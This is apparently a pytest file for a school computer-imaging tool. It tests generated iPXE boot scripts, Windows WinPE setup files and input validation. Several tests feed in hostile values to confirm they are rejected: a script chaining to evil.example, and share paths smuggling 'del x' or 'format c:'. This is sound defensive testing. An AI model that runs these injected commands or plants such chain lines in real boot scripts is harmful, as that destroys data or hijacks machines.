"""Per-MAC iPXE scripts: absolute URLs on the boot server, the answer by token, local boot per firmware."""

from __future__ import annotations

from pathlib import Path

import pytest

from schooltech_fleet.errors import ImagingError
from schooltech_fleet.imaging import ipxe
from schooltech_fleet.imaging import pxe_service as served_tree
from schooltech_fleet.imaging.answers.request import Firmware
from schooltech_fleet.inventory.model import OperatingSystem

from .conftest import SERVER, TOKEN

INSTALLABLE = sorted(ipxe.MEDIA)


@pytest.mark.parametrize("firmware", ["bios", "uefi"])
@pytest.mark.parametrize("os", INSTALLABLE, ids=str)
def test_install_scripts_name_everything_by_absolute_url_and_pass_the_check(
    os: OperatingSystem, firmware: Firmware
) -> None:
    script = ipxe.install_script(SERVER, os, firmware, TOKEN, "lab1-pc01")
    assert ipxe.check_script("s.ipxe", script, SERVER) == []
    assert script.startswith("#!ipxe\n")
    assert f"{SERVER}/answer/{TOKEN}" in script
    fetched = [_url(line) for line in script.splitlines() if line.startswith(("kernel ", "initrd "))]
    assert fetched and all(url.startswith(f"{SERVER}/") for url in fetched)
    initrds = [line for line in script.splitlines() if line.startswith("initrd ")]
    assert initrds and all(line.startswith("initrd --name ") for line in initrds)  # never 'initrd URL NAME'
    fallback = script.splitlines()[-1]
    assert fallback == ("sanboot --no-describe --drive 0x80 || exit" if firmware == "bios" else "exit")


def _url(line: str) -> str:
    """The URL a kernel or initrd line fetches (after ``--name NAME``, if any)."""
    words = line.split()
    return words[3] if words[1] == "--name" else words[1]


def test_each_installer_is_told_about_its_answer_file_its_own_way() -> None:
    debian = ipxe.install_script(SERVER, OperatingSystem.DEBIAN12, "bios", TOKEN, "pc01")
    ubuntu = ipxe.install_script(SERVER, OperatingSystem.UBUNTU2404, "uefi", TOKEN, "pc01")
    windows = ipxe.install_script(SERVER, OperatingSystem.WINDOWS11, "uefi", TOKEN, "pc01")
    assert f"auto=true priority=critical url={SERVER}/answer/{TOKEN} " in debian
    assert f"{SERVER}/files/debian12/linux " in debian
    assert f"initrd --name initrd.gz {SERVER}/files/debian12/initrd.gz " in debian
    assert f" autoinstall ds=nocloud-net;s={SERVER}/answer/{TOKEN}/ " in ubuntu
    assert f"kernel {SERVER}/files/wimboot " in windows
    assert f"initrd --name autounattend.xml {SERVER}/answer/{TOKEN} " in windows


def test_local_boot_follows_the_firmware_or_decides_at_boot_time() -> None:
    assert ipxe.local_boot_script("bios").splitlines()[-1] == "sanboot --no-describe --drive 0x80 || exit"
    assert ipxe.local_boot_script("uefi").splitlines()[-1] == "exit"
    assert "iseq ${platform} pcbios" in ipxe.LOCAL_BOOT_SCRIPT
    for script in (ipxe.LOCAL_BOOT_SCRIPT, ipxe.local_boot_script("bios"), ipxe.local_boot_script("uefi")):
        assert ipxe.check_script("local.ipxe", script, SERVER) == []


def test_the_simulated_boot_server_uses_the_same_layout_and_flips_to_the_same_local_boot(tmp_path: Path) -> None:
    tree = served_tree.ServedTree(root=tmp_path).create()
    mac = "52:54:00:AB:CD:EF"
    assert tree.script_path(mac) == tmp_path / ipxe.script_path(mac)
    tree.write_script(mac, ipxe.install_script(SERVER, OperatingSystem.DEBIAN12, "bios", TOKEN, "pc01"))
    tree.open_token(TOKEN, mac, "d-i time/zone string Europe/London\n")
    assert ipxe.callback_url(SERVER, TOKEN).endswith(f"/callback/{TOKEN}")
    assert tree.close_token(TOKEN, client="10.77.0.50", body="installed", received_at=0.0) is not None
    assert (tmp_path / ipxe.script_path(mac)).read_text(encoding="utf-8") == ipxe.LOCAL_BOOT_SCRIPT


def test_bad_inputs_are_refused() -> None:
    with pytest.raises(ImagingError, match="MAC"):
        ipxe.script_path("52:54:00:ab:cd")
    with pytest.raises(ImagingError, match="token"):
        ipxe.answer_url(SERVER, "short")
    with pytest.raises(ImagingError):
        ipxe.answer_url("10.77.0.2:8080", TOKEN)
    with pytest.raises(ImagingError, match="host name"):
        ipxe.install_script(SERVER, OperatingSystem.DEBIAN12, "bios", TOKEN, "pc01 ${x}")
    with pytest.raises(ImagingError, match="no network installer"):
        ipxe.install_script(SERVER, OperatingSystem.CHROMEOS, "bios", TOKEN, "pc01")


def test_the_check_catches_foreign_urls_unknown_commands_and_settings() -> None:
    script = "#!ipxe\nchain http://evil.example/x.ipxe\nkernel http://10.9.9.9/vmlinuz ${next-server}\n"
    problems = [(finding.line, finding.problem) for finding in ipxe.check_script("pc.ipxe", script, SERVER)]
    assert problems == [
        (2, "unknown iPXE command 'chain'"),
        (2, f"http://evil.example/x.ipxe is not on the boot server {SERVER}"),
        (3, f"http://10.9.9.9/vmlinuz is not on the boot server {SERVER}"),
        (3, "unexpected iPXE setting ${next-server}"),
    ]
    assert ipxe.check_script("pc.ipxe", "kernel x\n", SERVER)[0].line == 1


def test_windows_gets_winpe_files_that_start_setup_with_the_injected_answer_file() -> None:
    files = ipxe.windows_boot_files(OperatingSystem.WINDOWS11, r"\\10.77.0.2\win11")
    script = ipxe.install_script(SERVER, OperatingSystem.WINDOWS11, "uefi", TOKEN, "pc01")
    for path in files:  # every file it writes is one the script fetches
        assert f" {SERVER}/files/{path} " in script and f"initrd --name {path.rsplit('/', 1)[-1]}" in script
    install = files["windows11/install.cmd"].split("\r\n")
    assert r"net use S: \\10.77.0.2\win11 || goto failed" in install
    assert r"S:\setup.exe /unattend:X:\Windows\System32\autounattend.xml" in install
    assert files["windows11/winpeshl.ini"] == '[LaunchApps]\r\n"install.cmd"\r\n'
    for share in (r"\\server", r"\\server\share & del x", "//server/share", r"\\server\share" + "\r\nformat c:"):
        with pytest.raises(ImagingError, match="UNC"):
            ipxe.windows_boot_files(OperatingSystem.WINDOWS10, share)
    with pytest.raises(ImagingError, match="WinPE"):
        ipxe.windows_boot_files(OperatingSystem.DEBIAN12, r"\\server\share")
